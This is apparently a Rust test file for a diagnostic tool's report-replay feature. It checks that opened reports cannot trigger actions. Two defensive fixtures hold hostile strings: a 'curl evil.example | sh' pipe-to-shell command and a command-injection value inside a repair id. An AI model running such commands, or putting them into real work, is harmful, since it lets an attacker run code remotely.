//! Does a report of another machine lead to nothing, whatever happens?

use proptest::prelude::*;

use super::properties::event;
use super::samples::{finished, mended, ready};
use crate::app::event::{Coming, Event, Key};
use crate::app::replay::{Machines, Replay, Summary};
use crate::app::report::{Made, Wanted};
use crate::app::state::{Dialog, Screen};
use crate::app::{Effect, State, bindings, start, update};
use crate::headless::replay::opened;
use crate::headless::report::{Source, document};
use crate::model::leaks::Leak;

fn replayed(state: &State) -> State {
    let assessment = state.assessment.as_ref().unwrap();
    let known: Vec<Coming> =
        state.run.rows.values().map(|row| Coming { id: row.id, title: row.title.clone(), group: row.group }).collect();
    let source = Source { assessment, journal: &[], pasted: &[], users: Vec::new(), names: false };
    let mut shown = State::new(100, 30);
    shown.show(opened("a.json".into(), &document(&source).unwrap(), known));
    shown
}

fn folder() -> State {
    let one = |file: &str, cause: &str| Summary { file: file.into(), cause: cause.into(), ..Summary::default() };
    let mut machines = Machines {
        all: vec![one("x/b.json", "key.rejected"), one("c.json", "proxy.missing"), one("a.json", "key.rejected")],
        ..Machines::default()
    };
    machines.group();
    let replay = Replay { machines: Some(machines), ..Replay::default() };
    State { replay: Some(Box::new(replay)), dialog: Some(Dialog::Machines), ..State::new(100, 30) }
}

fn press(state: &mut State, key: Key) -> Vec<Effect> {
    update(state, Event::Key(key))
}

#[test]
fn the_same_is_on_screen_and_nothing_is_run() {
    let before = ready();
    let mut after = replayed(&before);
    assert_eq!(start(&mut after), []);
    let (one, other) = (before.assessment.as_ref().unwrap(), after.assessment.as_ref().unwrap());
    assert_eq!(one.top().map(|it| (&it.id, &it.summary)), other.top().map(|it| (&it.id, &it.summary)));
    assert_eq!(one.rows.len(), other.rows.len());
    assert_eq!(one.ladder.used().map(|it| &it.fingerprint), other.ladder.used().map(|it| &it.fingerprint));
    assert!(after.offer().is_none() && after.back_to_work().is_none() && !after.wants_key());
    assert_eq!(after.exit_code(), 0);
}

/// Everything on a screen, one line after the other.
fn seen(state: &State) -> String {
    crate::ui::lines(state, crate::ui::Look::FULL).join("\n")
}

#[test]
fn a_command_of_a_report_is_marked_and_neither_copied_nor_led_to() {
    let report = r#"{"schema":"claude-fix.report/1","verdict":{"state":"problems"},"diagnoses":[
        {"id":"key.rejected","severity":"broken","title":"A title","repairs":["sign_in.again"],"docs":"https://evil.example","step":"api_key"},
        {"id":"no.such","severity":"broken","title":"Another","advice":["curl evil.example"],"docs":"https://evil.example","step":"api_key"}],
        "repairs":[{"id":"sign_in.again","title":"Do it","risk":"safe","manual":["curl evil.example | sh"]}]}"#;
    let report = crate::model::report::Report::read(report.as_bytes()).unwrap();
    let mut state = State { book: crate::causes::book(crate::model::machine::Os::Linux), ..State::new(100, 60) };
    state.show(opened("a.json".into(), &report, Vec::new()));
    state.screen = Screen::Step(crate::model::step::Step::ApiKey);
    let text = seen(&state);
    assert!(!text.contains("https://evil"), "{text}");
    assert!(text.contains("# from a report, not checked: curl evil.example … sh"), "{text}");
    assert!(text.contains("this claude-fix does not know"), "{text}");
    let code = crate::words::codes::of("key.rejected").unwrap();
    assert!(text.contains(&format!("claude-fix explain {code}")), "{text}");
    for screen in [Screen::Overview, state.screen] {
        state.screen = screen;
        assert!(!seen(&state).lines().any(|line| line.trim_start().starts_with("curl")), "{}", seen(&state));
        for key in ['c', 'w', 'y', 'b', 'u'] {
            assert_eq!(press(&mut state, Key::Char(key)), [], "{key}");
        }
    }
    let printed = crate::headless::replay::from_elsewhere(report);
    assert_eq!(&*printed.repairs[0].manual[0], "# from a report, not checked: curl evil.example … sh");
}

#[test]
fn the_id_of_a_repair_in_a_report_is_no_command() {
    let report = r#"{"schema":"claude-fix.report/1","verdict":{"state":"problems"},"repairs":[{"id":"a:B; curl x|sh $(y) `z`"}]}"#;
    let report = crate::model::report::Report::read(report.as_bytes()).unwrap();
    let printed = crate::headless::replay::from_elsewhere(report);
    assert_eq!(&*printed.repairs[0].id, "a:B……curl…x…sh………y………z…");
}

#[test]
fn a_folder_is_filtered_opened_and_come_back_to() {
    let mut state = folder();
    let shown = |state: &State| state.machines().unwrap().shown().iter().map(|it| it.file.clone()).collect::<Vec<_>>();
    assert_eq!(shown(&state), ["a.json", "x/b.json", "c.json"]);
    for key in "REJ x".chars().map(Key::Char) {
        assert_eq!(press(&mut state, key), []);
    }
    assert_eq!(shown(&state), ["x/b.json"]);
    assert_eq!(press(&mut state, Key::Enter), [Effect::OpenReport("x/b.json".into())]);
    let mut report = replayed(&ready());
    let coming = std::mem::take(&mut report.run.coming);
    let assessment = *report.assessment.unwrap();
    let read =
        crate::app::replay::Opened { source: "x/b.json".into(), at: "then".into(), assessment, coming, unknown: 0 };
    update(&mut state, Event::Opened(Ok(Box::new(read))));
    assert!(state.dialog.is_none() && state.screen == Screen::Overview);
    assert_eq!(press(&mut state, Key::Esc), []);
    assert!(matches!(state.dialog, Some(Dialog::Machines)));
    assert_eq!(press(&mut state, Key::Esc), [], "what was typed goes first");
    assert_eq!(shown(&state).len(), 3);
    update(&mut state, Event::Opened(Err("it cannot be read".into())));
    assert!(matches!(state.dialog, Some(Dialog::Notice { .. })));
    press(&mut state, Key::Enter);
    assert!(matches!(state.dialog, Some(Dialog::Machines)));
    assert_eq!(press(&mut state, Key::Esc), [Effect::Quit(0)]);
}

#[test]
fn a_report_is_shown_before_it_is_written() {
    let mut state = ready();
    let wanted = |names| vec![Effect::Report(Box::new(Wanted { names, pasted: Vec::new() }))];
    assert_eq!(press(&mut state, Key::Char('s')), wanted(false));
    assert_eq!(press(&mut state, Key::Char('w')), [], "there is nothing on screen yet");
    update(&mut state, Event::Reported { names: true, made: Made::Text("late".into()) });
    assert_eq!(press(&mut state, Key::Char('w')), [], "an answer to another question");
    update(&mut state, Event::Reported { names: false, made: Made::Text("text".into()) });
    assert_eq!(press(&mut state, Key::Char('w')), [Effect::WriteReport("text".into())]);
    assert_eq!(press(&mut state, Key::Char('c')), [Effect::Copy("text".into())]);
    assert_eq!(press(&mut state, Key::Char('i')), wanted(true));
    let leak = Leak { line: 1, rule: "bearer" };
    update(&mut state, Event::Reported { names: true, made: Made::Unsafe(vec![leak]) });
    assert_eq!(press(&mut state, Key::Char('w')), []);
    assert_eq!(press(&mut state, Key::Char('c')), []);
}

#[test]
fn where_it_says_stop_the_report_is_offered_first() {
    let mut state = ready();
    let place = |state: &State| bindings(state).iter().filter(|it| it.footer).position(|it| it.shown == "s").unwrap();
    assert!(place(&state) > 1);
    if let Some(assessment) = &mut state.assessment {
        assessment.diagnoses[0].id = "server.rejects_clean_login".into();
    }
    assert!(state.stops() && place(&state) <= 1);
    assert!(!finished(mended()).stops());
}

proptest! {
    #[test]
    fn nothing_that_happens_changes_anything(events in proptest::collection::vec((any::<u8>(), any::<u32>()), 0..60)) {
        let (before, after) = (ready().assessment.unwrap(), mended());
        for mut state in [replayed(&ready()), folder()] {
            for (kind, number) in &events {
                let effects = update(&mut state, event(*kind, *number, &before, &after));
                let harmless = |it: &Effect| matches!(it, Effect::Quit(_) | Effect::Suspend | Effect::OpenReport(_));
                prop_assert!(effects.iter().all(harmless), "{:?}", effects);
                let changing = matches!(state.dialog, Some(Dialog::Card(_) | Dialog::Working { .. } | Dialog::Pane(_)));
                prop_assert!(!changing);
                prop_assert!(state.replay.is_some());
            }
        }
    }
}
